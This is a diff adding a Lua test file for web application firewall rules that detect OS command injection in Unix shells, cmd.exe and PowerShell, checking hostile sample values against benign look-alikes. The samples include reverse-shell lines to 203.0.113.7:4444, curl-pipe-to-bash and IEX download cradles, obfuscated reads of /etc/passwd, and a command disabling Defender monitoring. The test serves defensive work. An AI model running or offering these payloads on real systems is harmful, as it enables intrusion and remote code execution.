@@ -1,0 +1,59 @@
+local rule_checks = require "rule_checks"
+local pcre_stub = require "pcre_stub"
+
+-- OS command injection (Unix shells, cmd.exe, PowerShell): the rules added or widened for it, value by
+-- value through the real rules, with benign values sharing their words.
+local describe_rules = pcre_stub.available and describe or pending
+describe_rules("edge.waf.rules command injection shapes", function()
+    local caught_by, clean
+
+    setup(function()
+        caught_by, clean = rule_checks.new(assert)
+    end)
+
+    it("132100 / 132105: more commands after a separator; tool names need a flag, path or URL", function()
+        caught_by(132100, { "b|grep -r password /home", "; openssl s_client -connect h:443", "; mshta http://h/x.hta",
+            "& vssadmin list shadows", "; lwp-download http://h/x /tmp/x", "| sqlite3 /dev/null", "; systemctl stop fw" })
+        caught_by(132105, { "a;find / -perm -4000", "| strings /bin/ls", "; docker run -v /:/mnt alpine",
+            "; git clone https://h/r.git", "; ssh -o StrictHostKeyChecking=no u@h" })
+        clean({ "I <3 bash, vim & tmux", "Python | Go | MySQL | Docker", "search & find", "sort & filter",
+            "npm install && npm test should pass", "vim | tmux | git" })
+    end)
+
+    it("132110: substring expansion and variables glued inside a word", function()
+        caught_by(132110, { "${PATH:0:1}etc${PATH:0:1}passwd", "; w${x}hoami", ";$u$@name -a", "${HOME:0:-3}",
+            "| pwsh -c whoami", "cmd /v:on /c dir" })
+        clean({ "Hello ${user}!", "${name} placeholder", "price: $5 & $10", "a$b$c" })
+    end)
+
+    it("132140: cmd.exe grammar: FOR, IF EXIST, START /B, CALL, SC", function()
+        caught_by(132140, { "& for /f \"tokens=*\" %a in ('whoami') do echo %a", "for %i in (1 2) do dir",
+            "for /l %i in (1,1,9) do ping 10.0.0.%i", "& if exist c:\\windows\\win.ini type x", "start /b calc.exe",
+            "& call c:\\temp\\x.bat", "& sc query", "if %x%==1 dir" })
+        clean({ "for /f loops are confusing", "if exist, call me", "Start me up", "SC query letters" })
+    end)
+
+    it("132180: a command line as the whole value, or a command named by its bin path", function()
+        caught_by(132180, { "uname -a", "crontab -l", "kill -9 -1", "head -c 100 /dev/urandom", "cat /etc/passwd",
+            "socat tcp-connect:203.0.113.7:4444 exec:sh,pty", "ls -la /var/www", "nc 203.0.113.7 4444 -e /bin/sh",
+            "curl -s https://h.example/i | bash", "wget http://h.example/x -O /tmp/x", "dir c:\\users",
+            "x; /usr/bin/id -u", "system('/bin/cat /etc/hosts')", "/usr/local/bin/php" })
+        clean({ "ping -c 4 is what I used; packet loss was 0%", "python -m venv .venv is the first step",
+            "docker compose up -d brings up postgres", "ls output attached", "cat food, dog food & bird seed",
+            "type 2 diabetes", "Type A/B testing", "set 2 of 3", "ID 12345", "echo park, los angeles",
+            "the /usr/bin/python path", "#!/usr/bin/env python3", "installed to /usr/bin/node",
+            "id: 42; name: Ann", "curl the health endpoint to check: https://api.example.com/healthz" })
+    end)
+
+    it("132190: PowerShell cmdlets, IEX on a download, .NET calls, glued call operator", function()
+        caught_by(132190, { "Get-Process | Stop-Process -Force", "Get-LocalUser", "Start-Process calc.exe",
+            "Invoke-WebRequest -Uri http://h/x", "IEX (New-Object Net.WebClient).DownloadString('http://h/a')",
+            "iex(iwr http://h/a)", "[Convert]::FromBase64String('aWV4') | iex",
+            "[System.Diagnostics.Process]::Start('cmd.exe')", "(New-Object System.Net.WebClient).DownloadFile('x','y')",
+            "$ExecutionContext.InvokeCommand.InvokeScript('id')", "&('I'+'EX') 'whoami'",
+            "Set-MpPreference -DisableRealtimeMonitoring $true" })
+        clean({ "set-up guide", "Get-Together 2024", "out-of-band", "read-only mode", "iex (Investors Exchange)",
+            "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-webrequest",
+            "open PowerShell as admin and run the installer", "Ex-Windows admin, now writing PowerShell for fun" })
+    end)
+end)
